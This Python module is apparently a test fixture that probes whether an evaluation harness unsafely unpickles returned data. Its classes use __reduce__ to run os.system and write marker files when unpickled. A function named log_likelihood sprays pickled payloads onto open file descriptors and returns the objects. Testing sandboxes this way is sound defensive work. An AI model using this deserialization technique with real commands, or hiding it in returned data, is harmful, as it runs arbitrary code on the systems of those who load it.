"""Returns things that run when somebody unpickles them."""

import os
import pickle

import numpy as np
from given import did
from places import MARKER, TARGETS


def leave_a_mark(*_):
    did("was unpickled")
    for folder in TARGETS:
        try:
            with open(f"{folder}/{MARKER}", "w") as file:
                file.write("unpickled")
        except OSError:
            continue


class Bomb:
    def __reduce__(self):
        return (os.system, (f"echo was-here > {TARGETS[0]}/{MARKER}",))


class Local:
    def __reduce__(self):
        return (leave_a_mark, ())


def log_likelihood(model, text):
    data = pickle.dumps(Bomb())
    for number in range(3, 64):
        try:
            os.write(number, data)
        except OSError:
            continue
    return np.array([Local(), Bomb()], dtype=object)
